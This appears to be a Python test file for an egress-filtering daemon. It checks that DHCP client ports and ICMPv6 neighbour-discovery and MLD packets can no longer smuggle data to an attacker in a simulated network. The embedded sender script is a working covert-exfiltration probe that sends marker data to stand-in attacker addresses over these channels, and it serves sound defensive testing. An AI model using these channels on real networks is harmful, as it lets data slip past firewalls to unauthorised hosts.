"""Issue 9, classes 3 and 4: DHCP client ports and ICMPv6 ND/MLD as a way out.

The ruleset used to accept `udp sport 68 dport 67`, `546 -> 547` and every
ND/MLD type to any destination with any payload, before the queue. A root
process behind a gateway (or with CAP_NET_RAW on a host) could carry data to
any address that way. The wire-level sniffer in the fake internet records
every packet to the attacker that carries payload (ICMP bodies included):
it must see nothing. A positive control proves it would.
"""
import json

import lab as L

MARK = "EGRESSD-COVERT-MARKER"

# One sender for every case: argv = kind, destination. Prints "sent".
SENDER = r"""
import socket, struct, sys
kind, dst = sys.argv[1], sys.argv[2]
data = %r * 4
if kind == "dhcp4":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", 68))
    s.sendto(data, (dst, 67))
elif kind == "dhcp6":
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", 546))
    s.sendto(data, (dst, 547))
else:
    # ICMPv6 with an ND or MLD type; the kernel fills in the checksum.
    icmp_type, hops = {"ns": (135, 255), "na": (136, 255), "rs": (133, 255),
                       "mld2": (143, 64), "mldq": (130, 64)}[kind]
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, hops)
    s.sendto(struct.pack("!BBH", icmp_type, 0, 0) + bytes(4) + data, (dst, 0))
print("sent")
""" % MARK.encode()

CASES = [("dhcp4", L.ATTACKER4), ("dhcp6", L.ATTACKER6), ("ns", L.ATTACKER6),
         ("na", L.ATTACKER6), ("rs", L.ATTACKER6), ("mld2", L.ATTACKER6),
         ("mldq", L.ATTACKER6)]


def send_all(lab):
    for kind, dst in CASES:
        p = lab.ns_run(lab.cli, [L.PY, "-c", SENDER, kind, dst], timeout=10)
        assert p.stdout.strip() == "sent", (kind, p.stdout, p.stderr)


def marked(rec):
    want = MARK.encode().hex()[:16]
    return [p for p in rec["packets"] if want in p.get("head", "")]


def sync(lab):
    """A TCP flow to the attacker after the probes: denied, and once its deny
    event is logged every earlier probe has crossed (or not) the filter."""
    e = lab.egressd
    p = lab.ns_run(lab.cli, ["curl", "-sS", "-m", "3", "-o", "/dev/null",
                             "http://[%s]:80/" % L.ATTACKER6], timeout=10)
    assert p.returncode != 0
    e.wait_event(lambda x: x.get("event") == "deny" and x.get("dst") == L.ATTACKER6,
                 what="deny of the sync flow")


def test_control_sniffer_sees_covert_probes_unfiltered(anylab):
    """Without egressd's ruleset every probe reaches the attacker's wire."""
    with L.sniffing(anylab, L.ATTACKER4, L.ATTACKER6, icmp=True) as rec:
        send_all(anylab)
        L.wait_for(lambda: len(marked(json.load(open(rec["path"])))) >= len(CASES), 5,
                   "the sniffer to see every probe")
    kinds = {p["proto"] for p in marked(rec)}
    assert kinds == {17, 58}, rec


def test_dhcp_and_nd_carry_nothing_out(anylab):
    anylab.start_egressd()
    with L.sniffing(anylab, L.ATTACKER4, L.ATTACKER6, icmp=True) as rec:
        send_all(anylab)
        sync(anylab)
    assert marked(rec) == [], rec
    anylab.assert_attacker_got_nothing()
